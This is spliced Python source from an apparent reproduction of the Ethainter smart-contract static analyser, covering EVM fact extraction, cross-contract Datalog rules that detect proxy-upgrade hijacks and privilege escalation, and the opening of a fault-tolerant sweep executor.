                        MemoryAccess(statement=stmt, address=address, var=value_var)
                    )
                    last_write[address] = value_var
                else:
                    last_write.clear()
                continue
            if op == "MSTORE8":
                last_write.clear()
                continue
            if op == "MLOAD":
                (address_var,) = stmt.uses
                address = facts.const.get(address_var)
                if address is not None:
                    facts.memory_reads.append(
                        MemoryAccess(statement=stmt, address=address, var=stmt.def_var)
                    )
                continue
            if op == "SHA3":
                offset_var, size_var = stmt.uses
                offset = facts.const.get(offset_var)
                size = facts.const.get(size_var)
                if offset is not None and size is not None and size % 32 == 0:
                    args: List[str] = []
                    complete = True
                    for word in range(size // 32):
                        value = _resolve_memory_word(last_write, offset + 32 * word)
                        if value is None:
                            complete = False
                            break
                        args.append(value)
                    if complete and args:
                        facts.hashes.append(
                            HashFact(statement=stmt, def_var=stmt.def_var, args=args)
                        )
                        for arg in args:
                            facts.flow_edges.append((arg, stmt.def_var, stmt))
                        continue
                # Unresolved hash: taint still propagates from the offset
                # operands conservatively (rarely matters).
                for source in stmt.uses:
                    facts.flow_edges.append((source, stmt.def_var, stmt))
                continue
            if op == "SSTORE":
                address_var, value_var = stmt.uses
                facts.storage_stores.append(
                    StorageAccess(
                        statement=stmt,
                        address_var=address_var,
                        value_var=value_var,
                        def_var=None,
                        const_slot=facts.const.get(address_var),
                    )
                )
                continue
            if op == "SLOAD":
                (address_var,) = stmt.uses
                facts.storage_loads.append(
                    StorageAccess(
                        statement=stmt,
                        address_var=address_var,
                        value_var=None,
                        def_var=stmt.def_var,
                        const_slot=facts.const.get(address_var),
                    )
                )
                continue
            if op == "SELFDESTRUCT":
                facts.selfdestructs.append(stmt)
                continue
            if op in ("CALL", "CALLCODE"):
                gas, address, value, in_off, in_size, out_off, out_size = stmt.uses
                facts.calls.append(
                    CallFact(
                        statement=stmt,
                        kind=op,
                        gas_var=gas,
                        address_var=address,
                        value_var=value,
                        in_offset=facts.const.get(in_off),
                        out_offset=facts.const.get(out_off),
                        in_offset_var=in_off,
                        out_offset_var=out_off,
                    )
                )
                last_write.clear()  # the call may write its output buffer
                continue
            if op in ("DELEGATECALL", "STATICCALL"):
                gas, address, in_off, in_size, out_off, out_size = stmt.uses
                facts.calls.append(
                    CallFact(
                        statement=stmt,
                        kind=op,
                        gas_var=gas,
                        address_var=address,
                        value_var=None,
                        in_offset=facts.const.get(in_off),
                        out_offset=facts.const.get(out_off),
                        in_offset_var=in_off,
                        out_offset_var=out_off,
                    )
                )
                last_write.clear()
                continue
            if op == "RETURNDATASIZE":
                facts.returndatasize_blocks.add(block.ident)
                continue
            if op == "JUMPI":
                facts.jumpis.append(stmt)
                continue
            if op == "CALLDATACOPY":
                # dest, src, size: a constant-destination copy taints the
                # memory words it covers (conservatively only the first word
                # unless the size is constant).
                dest_var, _src, size_var = stmt.uses
                dest = facts.const.get(dest_var)
                size = facts.const.get(size_var)
                if dest is not None:
                    words = (size // 32 + 1) if size is not None else 1
                    for word in range(min(words, 64)):
                        synthetic = "cdcopy_%s_%d" % (stmt.ident, word)
                        facts.calldata_defs.append((synthetic, stmt))
                        facts.memory_writes.append(
                            MemoryAccess(
                                statement=stmt, address=dest + 32 * word, var=synthetic
                            )
                        )
                        last_write[dest + 32 * word] = synthetic
                else:
                    last_write.clear()
                continue
            # Other opcodes: results are environment values or irrelevant;
            # no flow edges.
    return facts
