"""Cross-contract analysis: call-graph linkage and the merged Datalog fixpoint.

Ethainter's flagship composite chains (tainted-owner → tainted-delegatecall,
paper §3.2) are most dangerous across proxy/implementation *pairs*, yet a
per-contract analysis cannot see them: the unguarded write lives in one
contract and the delegatecall dispatch in another.  This module closes that
gap in three layers:

1. **ContractBundle** — the first-class multi-contract input: a set of
   deployed contracts (address → runtime bytecode, optional MiniSol source,
   optional storage seeds describing the deployed state, e.g. a proxy's
   implementation slot).  Accepted by :func:`repro.api.analyze`,
   ``AnalyzeRequest``, ``repro analyze --bundle``, and ``POST /analyze``.

2. **Linkage resolution** (:func:`resolve_call_edges`) — every
   ``CALL``/``DELEGATECALL``/``STATICCALL`` site's target address is
   resolved through the value-set analysis (:meth:`ContractFacts.value_set`,
   i.e. lifter constants plus the optional :mod:`repro.ir.value_analysis`
   stratum) and through storage-slot constants: a target loaded from a
   constant slot resolves via the bundle's storage seeds (the proxy
   implementation-slot pattern).  The result is the inter-contract call
   graph (:class:`CallEdge`, unresolved targets kept with ``callee=None``)
   plus three linkage relations fed to the fixpoint:

   * ``DelegateTarget(c, v)`` — delegatecall site ``c`` dispatches through
     the caller's constant storage slot ``v``;
   * ``SharedStorage(v, w)`` — per resolved DELEGATECALL edge A→B, callee
     slot ``B::v`` aliases caller slot ``A::v`` (delegated code runs against
     the *caller's* storage);
   * ``TrustedCallEdge(c, g)`` — call site ``c`` in A targets B, and B's
     guard ``g`` compares ``msg.sender`` against A's address (a seeded
     slot or a compiled-in constant): the guard trusts the caller contract,
     so attacker control of ``c`` bypasses it.

3. **The merged fixpoint** (:func:`analyze_bundle`) — every contract's EDB
   (the exact :func:`~repro.core.bytecode_datalog._facts_to_edb` relations)
   is namespaced by address (``0xADDR::term``) and merged with the linkage
   relations into ONE Datalog database, evaluated under the per-contract
   rules *plus* :data:`CROSS_CONTRACT_RULES` — on the compiled-plan engine
   or the legacy interpreter, matching the requested ``engine``.  Two new
   composite verdicts fall out:

   * ``proxy-upgrade-hijack`` — the slot a delegatecall dispatches through
     is attacker-taintable (typically via the implementation contract's own
     unguarded initializer, lifted into the proxy's namespace by
     ``SharedStorage``);
   * ``cross-contract-escalation`` — taint entering contract A flows
     through a resolved call edge into a guard-bypassing write in B (B's
     guard trusts A, and the attacker drives A's call site).

Single-contract bundles skip layers 2–3 entirely, so their reports stay
byte-identical to ``repro analyze`` on the same contract.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Set, Tuple, Union

from repro.core.analysis import AnalysisConfig, AnalysisResult, EthainterAnalysis
from repro.core.bytecode_datalog import (
    CONSERVATIVE_RULES,
    CORE_RULES,
    REENTRANCY_RULES,
    WRITE2_RULES,
    _facts_to_edb,
    _load_edb,
)
from repro.core.facts import ContractFacts
from repro.core.guards import EQ_SENDER
from repro.core.vulnerabilities import (
    CROSS_CONTRACT_ESCALATION,
    PROXY_UPGRADE_HIJACK,
)
from repro.datalog import Engine, parse_program

ADDRESS_MASK = (1 << 160) - 1

# Opcodes a call-target resolution may walk through between the SLOAD (or
# constant) and the call's address operand: address masking and phi moves.
_TRANSPARENT_OPS = {"AND", "PHI"}
_RESOLVE_DEPTH = 8


# ------------------------------------------------------------------ bundles


@dataclass(frozen=True)
class BundleContract:
    """One deployed contract inside a :class:`ContractBundle`.

    ``storage`` seeds describe the *deployed* state as a sorted tuple of
    ``(slot, value)`` pairs — hashable, so requests carrying bundles remain
    frozen values.  Seeds participate only in linkage resolution (call
    targets loaded from constant slots) and in trust-edge resolution; they
    are never treated as taint.
    """

    address: int
    bytecode: bytes = b""
    source: Optional[str] = None
    name: str = ""
    storage: Tuple[Tuple[int, int], ...] = ()

    def runtime(self) -> bytes:
        """Runtime bytecode, compiling MiniSol ``source`` on demand."""
        if self.bytecode:
            return self.bytecode
        if self.source is None:
            raise ValueError(
                "bundle contract 0x%x has neither bytecode nor source"
                % self.address
            )
        from repro.minisol import compile_source

        compiled = compile_source(self.source, self.name or None)
        if isinstance(compiled, dict):
            raise ValueError(
                "multiple contracts in bundle source for 0x%x; "
                "set name= to one of: %s"
                % (self.address, ", ".join(sorted(compiled)))
            )
        return compiled.runtime

    def storage_map(self) -> Dict[int, int]:
        return dict(self.storage)

    def label(self) -> str:
        """Display name for reports: the name, else the hex address."""
        return self.name or "0x%x" % self.address


def bundle_contract(
    address: int,
    bytecode: Optional[bytes] = None,
    source: Optional[str] = None,
    name: str = "",
    storage: Optional[Dict[int, int]] = None,
) -> BundleContract:
    """Build a :class:`BundleContract`, compiling ``source`` eagerly so the
    frozen value carries its bytecode (and hashes deterministically)."""
    contract = BundleContract(
        address=address & ADDRESS_MASK,
        bytecode=bytecode or b"",
        source=source,
        name=name,
        storage=tuple(sorted((storage or {}).items())),
    )
    if not contract.bytecode:
        contract = dataclasses.replace(contract, bytecode=contract.runtime())
    return contract


@dataclass(frozen=True)
class ContractBundle:
    """An address → contract map analyzed as one deployment."""

    contracts: Tuple[BundleContract, ...]

    def __post_init__(self) -> None:
        if not self.contracts:
            raise ValueError("a ContractBundle needs at least one contract")
        seen: Set[int] = set()
        for contract in self.contracts:
            if contract.address in seen:
                raise ValueError(
                    "duplicate bundle address 0x%x" % contract.address
                )
            seen.add(contract.address)

    def __len__(self) -> int:
        return len(self.contracts)

    def addresses(self) -> List[int]:
        return [contract.address for contract in self.contracts]

    def get(self, address: int) -> BundleContract:
        for contract in self.contracts:
            if contract.address == address:
                return contract
        raise KeyError("no bundle contract at 0x%x" % address)

    def has(self, address: int) -> bool:
        return any(c.address == address for c in self.contracts)

    def digest(self) -> str:
        """Content identity: addresses, runtime bytecodes, storage seeds."""
        hasher = hashlib.sha256()
        for contract in self.contracts:
            hasher.update(b"%x:" % contract.address)
            hasher.update(contract.runtime())
            for slot, value in contract.storage:
                hasher.update(b"|%x=%x" % (slot, value))
            hasher.update(b";")
        return hasher.hexdigest()


def _coerce_int(value: Union[int, str], what: str) -> int:
    if isinstance(value, int):
        return value
    if isinstance(value, str):
        text = value.strip()
        try:
            return int(text, 16) if text.startswith("0x") else int(text)
        except ValueError:
            pass
    raise ValueError("%s must be an integer or hex string, got %r" % (what, value))


def bundle_from_specs(
    specs: Sequence[Dict],
    base_dir: Optional[Path] = None,
    allow_files: bool = False,
) -> ContractBundle:
    """Build a bundle from JSON-shaped contract specs.

    Each spec is ``{"address": ..., "name": ..., "source" | "bytecode":
    ..., "storage": {slot: value}}``; addresses, slots, and values accept
    ints or hex strings.  With ``allow_files`` (the CLI), ``source_file`` /
    ``hex_file`` name files resolved against ``base_dir``.  The HTTP codec
    calls this with ``allow_files=False`` so requests cannot read server
    files.
    """
    if not isinstance(specs, (list, tuple)) or not specs:
        raise ValueError("bundle must be a non-empty list of contract specs")
    contracts = []
    for position, spec in enumerate(specs):
        if not isinstance(spec, dict):
            raise ValueError("bundle entry %d must be an object" % position)
        known = {
            "address", "name", "source", "bytecode", "storage",
            "source_file", "hex_file",
        }
        unknown = sorted(set(spec) - known)
        if unknown:
            raise ValueError(
                "unknown bundle contract field(s): %s" % ", ".join(unknown)
            )
        if "address" not in spec:
            raise ValueError("bundle entry %d is missing its address" % position)
        address = _coerce_int(spec["address"], "address")
        source = spec.get("source")
        bytecode = None
        if spec.get("bytecode") is not None:
            text = spec["bytecode"]
            if not isinstance(text, str):
                raise ValueError("bundle bytecode must be a hex string")
            if text.startswith("0x"):
                text = text[2:]
            try:
                bytecode = bytes.fromhex(text.strip())
            except ValueError:
                raise ValueError(
                    "bundle bytecode for 0x%x is not valid hex" % address
                ) from None
        if allow_files:
            root = base_dir or Path(".")
            if spec.get("source_file"):
                source = (root / spec["source_file"]).read_text()
            if spec.get("hex_file"):
                text = (root / spec["hex_file"]).read_text().strip()
                if text.startswith("0x"):
                    text = text[2:]
                bytecode = bytes.fromhex(text)
        elif spec.get("source_file") or spec.get("hex_file"):
            raise ValueError(
                "file-based bundle contracts are only accepted by the CLI"
            )
        if source is None and bytecode is None:
            raise ValueError(
                "bundle contract 0x%x needs source or bytecode" % address
            )
        storage = {
            _coerce_int(slot, "storage slot"): _coerce_int(value, "storage value")
            for slot, value in (spec.get("storage") or {}).items()
        }
        contracts.append(
            bundle_contract(
                address,
                bytecode=bytecode,
                source=source,
                name=spec.get("name") or "",
                storage=storage,
            )
        )
    return ContractBundle(contracts=tuple(contracts))


def load_bundle_file(path: Path) -> ContractBundle:
    """Read a ``repro analyze --bundle`` JSON file:
    ``{"contracts": [<spec>, ...]}`` (file references allowed)."""
    payload = json.loads(path.read_text())
    if not isinstance(payload, dict) or "contracts" not in payload:
        raise ValueError('bundle file needs a "contracts" list')
    return bundle_from_specs(
        payload["contracts"], base_dir=path.parent, allow_files=True
    )


# --------------------------------------------------------------- call graph


@dataclass(frozen=True)
class CallEdge:
    """One inter-contract call site, resolved or not."""

    caller: int  # bundle address of the calling contract
    site: str  # TAC statement ident of the call
    pc: int
    kind: str  # CALL | CALLCODE | DELEGATECALL | STATICCALL
    callee: Optional[int] = None  # resolved bundle address, or None
    slot: Optional[int] = None  # caller's constant slot the target loads from


def _load_slot_map(facts: ContractFacts) -> Dict[str, int]:
    """def_var -> constant slot for every constant-slot SLOAD."""
    slots: Dict[str, int] = {}
    for load in facts.storage_loads:
        if load.def_var is not None and load.const_slot is not None:
            slots[load.def_var] = load.const_slot
    return slots


def _storage_slot_of(
    facts: ContractFacts, variable: str, load_slots: Dict[str, int]
) -> Optional[int]:
    """The constant storage slot ``variable`` is loaded from, walking
    through address masks and phi moves (bounded depth)."""
    frontier = [variable]
    seen: Set[str] = set()
    for _ in range(_RESOLVE_DEPTH):
        next_frontier: List[str] = []
        for var in frontier:
            if var in seen:
                continue
            seen.add(var)
            if var in load_slots:
                return load_slots[var]
            stmt = facts.def_stmt.get(var)
            if stmt is not None and stmt.opcode in _TRANSPARENT_OPS:
                next_frontier.extend(stmt.uses)
        if not next_frontier:
            return None
        frontier = next_frontier
    return None


def resolve_call_edges(
    bundle: ContractBundle, results: Dict[int, AnalysisResult]
) -> List[CallEdge]:
    """Resolve every call site's target through value sets and seeds."""
    edges: List[CallEdge] = []
    for contract in bundle.contracts:
        result = results.get(contract.address)
        if result is None or result.facts is None:
            continue
        facts = result.facts
        load_slots = _load_slot_map(facts)
        seeds = contract.storage_map()
        for call in facts.calls:
            callee: Optional[int] = None
            values = facts.value_set(call.address_var)
            if values is not None and len(values) == 1:
                candidate = next(iter(values)) & ADDRESS_MASK
                if bundle.has(candidate) and candidate != contract.address:
                    callee = candidate
            slot = _storage_slot_of(facts, call.address_var, load_slots)
            if callee is None and slot is not None:
                seeded = seeds.get(slot)
                if seeded is not None:
                    seeded &= ADDRESS_MASK
                    if bundle.has(seeded) and seeded != contract.address:
                        callee = seeded
            edges.append(
                CallEdge(
                    caller=contract.address,
                    site=call.statement.ident,
                    pc=call.statement.pc,
                    kind=call.kind,
                    callee=callee,
                    slot=slot,
                )
            )
    edges.sort(key=lambda edge: (edge.caller, edge.pc, edge.site))
    return edges


# ----------------------------------------------------------- merged fixpoint

# Cross-contract strata evaluated on top of the per-contract rules over the
# merged, namespaced EDB.  The three ``.decl``s are the linkage relations
# computed in Python by resolve_call_edges / _linkage_relations.
CROSS_CONTRACT_RULES = r"""
.decl DelegateTarget(c, v)
.decl SharedStorage(v, w)
.decl TrustedCallEdge(c, g)

// Delegatecall storage aliasing: the callee's code runs against the
// caller's storage, so storage taint derived in the callee's namespace
// lands on the caller's aliased slot.
TaintedStorage(w) :- SharedStorage(v, w), TaintedStorage(v).

// Proxy-upgrade hijack: the slot a delegatecall dispatches through is
// attacker-taintable (the §3.2 composite across the proxy/impl pair).
ProxyUpgradeHijack(c) :- DelegateTarget(c, v), TaintedStorage(v).

// Caller-identity escalation: B guards a statement with msg.sender ==
// <address of A>.  Once the attacker drives A's call site, the guard no
// longer separates attacker from privileged caller — it composes with the
// core machinery exactly like a tainted owner slot does.
BypassedGuard(g) :- TrustedCallEdge(c, g), ReachableByAttacker(c).
CompromisedGuard(g) :- BypassedGuard(g).

// The escalation verdict proper: a guarded store whose taint and
// reachability exist only because the trusted-caller guard was bypassed.
CrossContractEscalation(s) :- SStoreConst(s, v, x), InputTaint(x),
                              ReachableByAttacker(s),
                              StaticallyGuardedStatement(s, g), BypassedGuard(g).
CrossContractEscalation(s) :- SStoreConst(s, v, x), StorageTaint(x),
                              StaticallyGuardedStatement(s, g), BypassedGuard(g).
"""

# Engine name -> (use_plans, columnar) for the merged fixpoint.  The tuned
# Python engine has no cross-contract counterpart, so "python" runs the
# merged rules on the compiled-plan engine; the Datalog names map exactly
# as repro.core.pipeline._DATALOG_MODES does.
_MERGED_ENGINE_MODES = {
    "python": (True, False),
    "datalog": (True, False),
    "datalog-columnar": (True, True),
    "datalog-legacy": (False, False),
}


def _ns(prefix: str, term: object) -> str:
    """Namespace one EDB term into a contract's address space."""
    return "%s::%s" % (prefix, term)


def _split_ns(term: str) -> Tuple[int, str]:
    """Invert :func:`_ns`: ``(address, local term)``."""
    prefix, local = term.split("::", 1)
    return int(prefix, 16), local


def _namespaced_edb(
    prefix: str, edb: Dict[str, Set[Tuple]]
) -> Dict[str, Set[Tuple]]:
    return {
        relation: {tuple(_ns(prefix, term) for term in row) for row in rows}
        for relation, rows in edb.items()
    }


def _linkage_relations(
    bundle: ContractBundle,
    results: Dict[int, AnalysisResult],
    edges: Sequence[CallEdge],
) -> Dict[str, Set[Tuple]]:
    """The DelegateTarget / SharedStorage / TrustedCallEdge EDB."""
    relations: Dict[str, Set[Tuple]] = {
        "DelegateTarget": set(),
        "SharedStorage": set(),
        "TrustedCallEdge": set(),
    }
    for edge in edges:
        caller_prefix = "0x%x" % edge.caller
        if edge.kind == "DELEGATECALL":
            if edge.slot is not None:
                relations["DelegateTarget"].add(
                    (
                        _ns(caller_prefix, edge.site),
                        _ns(caller_prefix, edge.slot),
                    )
                )
            if edge.callee is not None:
                # Delegated code runs against the caller's storage: alias
                # every slot the callee's analysis knows into the caller's
                # namespace (taint-only, via the SharedStorage rule).
                callee_result = results.get(edge.callee)
                if callee_result is not None and callee_result.facts is not None:
                    callee_prefix = "0x%x" % edge.callee
                    for slot in callee_result.facts.known_slots:
                        relations["SharedStorage"].add(
                            (
                                _ns(callee_prefix, slot),
                                _ns(caller_prefix, slot),
                            )
                        )
        elif edge.kind in ("CALL", "STATICCALL") and edge.callee is not None:
            # Does any guard in the callee compare msg.sender against the
            # *caller contract's* address?  Seeded slots and compiled-in
            # constants both resolve.
            callee_result = results.get(edge.callee)
            if callee_result is None or callee_result.guards is None:
                continue
            callee = bundle.get(edge.callee)
            seeds = callee.storage_map()
            callee_prefix = "0x%x" % edge.callee
            for guard in callee_result.guards.guards:
                if guard.kind != EQ_SENDER:
                    continue
                trusted = any(
                    (seeds.get(slot, -1) & ADDRESS_MASK) == edge.caller
                    for slot in guard.compared_slots
                )
                if not trusted and guard.compared_var is not None:
                    facts = callee_result.facts
                    constant = (
                        facts.const.get(guard.compared_var)
                        if facts is not None
                        else None
                    )
                    trusted = (
                        constant is not None
                        and (constant & ADDRESS_MASK) == edge.caller
                    )
                if trusted:
                    relations["TrustedCallEdge"].add(
                        (
                            _ns("0x%x" % edge.caller, edge.site),
                            _ns(callee_prefix, guard.ident),
                        )
                    )
    return {rel: rows for rel, rows in relations.items() if rows}


def merged_rules(config: AnalysisConfig, reentrancy: bool = False):
    """Per-contract rules plus the cross-contract strata, parsed."""
    text = CORE_RULES
    if config.model_storage_taint:
        text += WRITE2_RULES
        if config.conservative_storage:
            text += CONSERVATIVE_RULES
    if reentrancy:
        text += REENTRANCY_RULES
    text += CROSS_CONTRACT_RULES
    return parse_program(text).rules


# ------------------------------------------------------------------ results


@dataclass(frozen=True)
class CrossContractFinding:
    """One verdict derived only by the merged multi-contract fixpoint."""

    kind: str  # proxy-upgrade-hijack | cross-contract-escalation
    address: int  # contract the flagged statement belongs to
    statement: str  # local (de-namespaced) TAC statement ident
    pc: int
    detail: str = ""
    slot: Optional[int] = None  # dispatch/store slot, when known
    via: Optional[int] = None  # counterpart contract (callee/caller)
    via_site: Optional[str] = None  # the call-edge statement in `via`'s peer


@dataclass
class BundleResult:
    """Everything produced for one bundle: per-contract results plus the
    cross-contract layer."""

    bundle: ContractBundle
    results: Dict[int, AnalysisResult] = field(default_factory=dict)
    call_edges: List[CallEdge] = field(default_factory=list)
    cross_findings: List[CrossContractFinding] = field(default_factory=list)
    # Merged-fixpoint engine counters (None for single-contract bundles,
    # which skip the merged evaluation entirely).
    engine_stats: Optional[Dict] = None

    def result_for(self, address: int) -> AnalysisResult:
        return self.results[address]

    @property
    def flagged(self) -> bool:
        return bool(self.cross_findings) or any(
            result.warnings for result in self.results.values()
        )

    def has_cross(self, kind: str) -> bool:
        return any(finding.kind == kind for finding in self.cross_findings)


def _statement_pcs(result: AnalysisResult) -> Dict[str, int]:
    if result.program is None:
        return {}
    return {stmt.ident: stmt.pc for stmt in result.program.statements()}


def _extract_cross_findings(
    database,
    bundle: ContractBundle,
    results: Dict[int, AnalysisResult],
    edges: Sequence[CallEdge],
) -> List[CrossContractFinding]:
    findings: List[CrossContractFinding] = []
    pcs = {address: _statement_pcs(result) for address, result in results.items()}
    delegate_edges = {
        (edge.caller, edge.site): edge
        for edge in edges
        if edge.kind == "DELEGATECALL"
    }
    call_edges = {
        (edge.caller, edge.site): edge
        for edge in edges
        if edge.kind in ("CALL", "STATICCALL") and edge.callee is not None
    }

    for (namespaced,) in database.facts("ProxyUpgradeHijack"):
        address, site = _split_ns(namespaced)
        edge = delegate_edges.get((address, site))
        slot = edge.slot if edge is not None else None
        callee = edge.callee if edge is not None else None
        detail = "delegatecall dispatches through attacker-taintable slot"
        if slot is not None:
            detail += " %d" % slot
        if callee is not None:
            detail += " (implementation 0x%x writes it unguarded)" % callee
        findings.append(
            CrossContractFinding(
                kind=PROXY_UPGRADE_HIJACK,
                address=address,
                statement=site,
                pc=pcs.get(address, {}).get(site, -1),
                detail=detail,
                slot=slot,
                via=callee,
                via_site=None,
            )
        )

    # An escalated store may be reachable through several trusted edges;
    # attribute it to the first (sorted) caller for determinism.
    trusted_by_callee: Dict[int, List[CallEdge]] = {}
    for edge in call_edges.values():
        trusted_by_callee.setdefault(edge.callee, []).append(edge)
    for (namespaced,) in database.facts("CrossContractEscalation"):
        address, statement = _split_ns(namespaced)
        slot = None
        result = results.get(address)
        if result is not None and result.facts is not None:
            for store in result.facts.storage_stores:
                if store.statement.ident == statement:
                    slot = store.const_slot
                    break
        callers = sorted(
            trusted_by_callee.get(address, ()),
            key=lambda edge: (edge.caller, edge.pc),
        )
        via = callers[0].caller if callers else None
        via_site = callers[0].site if callers else None
        detail = "guarded store"
        if slot is not None:
            detail += " to slot %d" % slot
        detail += " reachable through a trusted call edge"
        if via is not None:
            detail += " from 0x%x" % via
        findings.append(
            CrossContractFinding(
                kind=CROSS_CONTRACT_ESCALATION,
                address=address,
                statement=statement,
                pc=pcs.get(address, {}).get(statement, -1),
                detail=detail,
                slot=slot,
                via=via,
                via_site=via_site,
            )
        )

    findings.sort(key=lambda f: (f.kind, f.address, f.pc, f.statement))
    return findings


def analyze_bundle(
    bundle: ContractBundle,
    config: Optional[AnalysisConfig] = None,
    *,
    cache=None,
    warm=None,
) -> BundleResult:
    """Analyze a :class:`ContractBundle` end to end.

    Each contract first runs the standard single-contract pipeline under
    ``config`` (so per-contract warnings, reports, and caches behave exactly
    as ``repro analyze`` — a one-contract bundle stops here and is
    byte-identical to today's output).  Multi-contract bundles then resolve
    the inter-contract call graph and evaluate the merged namespaced EDB
    plus linkage relations in one Datalog fixpoint with the cross-contract
    strata; the resulting verdicts land in ``cross_findings``.
    """
    config = config or AnalysisConfig()
    analyzer = EthainterAnalysis(config, cache=cache, warm=warm)
    results: Dict[int, AnalysisResult] = {}
    for contract in bundle.contracts:
        results[contract.address] = analyzer.analyze(contract.runtime())

    if len(bundle) == 1:
        return BundleResult(bundle=bundle, results=results)

    edges = resolve_call_edges(bundle, results)

    merged: Dict[str, Set[Tuple]] = {}
    options = config.taint_options()
    reentrancy = False
    for contract in bundle.contracts:
        result = results[contract.address]
        if result.facts is None or result.storage is None or result.guards is None:
            continue  # lift failure / timeout: no facts to contribute
        edb = _facts_to_edb(
            result.facts,
            result.storage,
            result.guards,
            options,
            ordering=result.ordering,
        )
        reentrancy = reentrancy or "ReentrancyCall" in edb
        for relation, rows in _namespaced_edb(
            "0x%x" % contract.address, edb
        ).items():
            merged.setdefault(relation, set()).update(rows)
    for relation, rows in _linkage_relations(bundle, results, edges).items():
        merged.setdefault(relation, set()).update(rows)

    use_plans, columnar = _MERGED_ENGINE_MODES.get(config.engine, (True, False))
    database = _load_edb(merged)
    engine = Engine(
        merged_rules(config, reentrancy=reentrancy),
        use_plans=use_plans,
        columnar=columnar,
    )
    engine.evaluate(database, deadline=options.deadline)

    return BundleResult(
        bundle=bundle,
        results=results,
        call_edges=edges,
        cross_findings=_extract_cross_findings(database, bundle, results, edges),
        engine_stats=engine.stats.as_dict(),
    )
