"""Supervised worker-pool sweep executor (the §6 harness, made survivable).

The paper runs Ethainter over the whole chain with 45 concurrent analysis
processes and a per-contract cutoff (§6).  At that scale the harness itself
is part of the analysis: a lifter that wedges on one pathological contract,
a worker the kernel OOM-kills, or an operator restart must each cost *one
contract*, not the sweep.  This module owns ``multiprocessing.Process``
workers directly (one private duplex pipe per worker — no shared queue
locks a dying worker could leave held) and adds, over the bare
``Pool.imap_unordered`` it replaces:

* **watchdog** — a wall-clock backstop that SIGKILLs and respawns workers
  stuck past ``deadline x grace_factor``, catching hangs the cooperative
  :class:`~repro.core.pipeline.Deadline` checks cannot (native sleeps,
  pathological allocation storms between check points);
* **crash isolation** — a worker death (signal, OOM kill, ``os._exit``) is
  recorded as a structured ``worker_crashed`` :class:`BatchEntry` error for
  the one contract it held; the worker is respawned and the sweep continues;
* **bounded retries** — a task whose worker *raised* (transient
  infrastructure errors) is retried with exponential backoff up to
  ``max_retries``; deterministic analysis errors (``timeout``,
  ``lift-error``) come back inside successful entries and are never
  retried;
* **worker recycling** — workers exit cleanly after ``recycle_after`` tasks
  (the ``maxtasksperchild`` analog) to bound allocator/cache growth on
  blockchain-scale corpora;
* **checkpoint journal** — completed entries append to a JSONL journal
  keyed by ``sha256(bytecode) + config fingerprint`` (the same identity as
  :class:`~repro.core.pipeline.ArtifactCache`); ``repro sweep --resume
  <journal>`` skips completed contracts after an interruption.  Harness
  faults (crash/watchdog/task_failed entries) are deliberately *not*
  journaled, so a resumed run retries them;
* **content-addressed task coalescing** — the paper's headline scalability
  lever (§6.1: ~38M deployed contracts collapse to ~240K unique
  bytecodes): pending tasks are grouped by the same ``sha256(bytecode) +
  config fingerprint`` identity the journal uses, one *representative*
  task runs per group, and its row is fanned out to every duplicate with
  the per-submission index preserved.  Throughput scales with *unique*
  code, not submissions; a representative's retry/crash outcome resolves
  the whole group at once (one ``error_kind`` per group, not N).
  ``OrchestratorOptions(dedup=False)`` (CLI ``--no-dedup``) restores the
  naive one-task-per-submission path;
* **cross-run result cache** — an optional supervisor-owned, disk-backed
  :class:`ResultCache` keyed by the same identity; repeated sweeps and
  warm daemon-style workloads resolve duplicate submissions without any
  analysis (``result_cache_hits``).  Harness-fault rows are never stored;
* **chunked IPC dispatch** — tasks travel to workers in batches of
  ``dispatch_chunk`` (auto-sized like the legacy pool's ``chunksize``), so
  per-task pipe round-trips amortize in the small-task regime; replies
  stay per-task so crash isolation still costs one contract;
* **progress events** — heartbeat / task_done / retry / worker_crashed /
  watchdog_kill / recycle / resumed / dedup_hit / result_cache_hit events
  via ``on_event``, with the counters rolled into
  :class:`BatchSummary.orchestrator`, sweep JSON reports, and
  ``--profile`` output.

:func:`run_sweep` is the single entry point; ``executor="pool"`` keeps the
legacy :func:`repro.core.batch._pool_run` path as the overhead baseline,
and both executors degrade to in-process execution (recorded, never
silent) when worker processes cannot be spawned.
"""

from __future__ import annotations

import hashlib
import json
import multiprocessing
import os
import queue as queue_module
import threading
import time
from concurrent.futures import Future
from multiprocessing import connection as mp_connection
from collections import deque
from dataclasses import (
    asdict,
    dataclass,
    field,
    fields as dataclass_fields,
    replace as dataclass_replace,
)
from typing import Callable, Dict, List, Mapping, Optional, Sequence, Tuple

from repro.core.analysis import AnalysisConfig, EthainterAnalysis
from repro.core.batch import (
    BatchEntry,
    BatchSummary,
    _analyze_battery_one,
    _analyze_one,
    _entry_from_result,
    _pool_run,
)
from repro.core.pipeline import ArtifactCache, analysis_fingerprint, bytecode_digest

JOURNAL_VERSION = 1


class TransientTaskError(Exception):
    """Raise inside a worker to mark a task failure as retriable."""


def resolve_mp_context(name: Optional[str] = None):
    """Resolve a multiprocessing context.

    With ``name`` (``"fork"``/``"spawn"``/``"forkserver"``) the named start
    method is used and unsupported names raise ``ValueError`` to the
    caller.  Without it, ``fork`` is preferred where available (cheapest on
    POSIX) with a fallback to the platform default — the old hard-coded
    ``get_context("fork")`` preference, made survivable on non-fork
    platforms.
    """
    if name:
        return multiprocessing.get_context(name)
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return multiprocessing.get_context()


# ------------------------------------------------------------------ options


@dataclass(frozen=True)
class FaultPlan:
    """Test-only fault injection, honored inside worker processes.

    ``crash_indices`` hard-exit the worker (``os._exit``), ``hang_indices``
    sleep past any watchdog, and ``transient_failures`` maps a task index
    to how many attempts fail with :class:`TransientTaskError` before the
    task succeeds.  Ignored entirely by in-process (serial) execution —
    injecting a crash into the supervisor would defeat the point.
    """

    crash_indices: Tuple[int, ...] = ()
    crash_exit_code: int = 13
    hang_indices: Tuple[int, ...] = ()
    hang_seconds: float = 3600.0
    transient_failures: Mapping[int, int] = field(default_factory=dict)

    def apply(self, index: int, attempt: int) -> None:
        if index in self.crash_indices:
            os._exit(self.crash_exit_code)
        if index in self.hang_indices:
            time.sleep(self.hang_seconds)
        failures = self.transient_failures.get(index, 0)
        if attempt < failures:
            raise TransientTaskError(
                "injected transient failure %d/%d on contract %d"
                % (attempt + 1, failures, index)
            )


@dataclass
class OrchestratorOptions:
    """Knobs for :func:`run_sweep` (shared by every executor).

    ``executor="auto"`` picks the supervised orchestrator for parallel
    runs and in-process execution otherwise; ``"pool"`` is the legacy
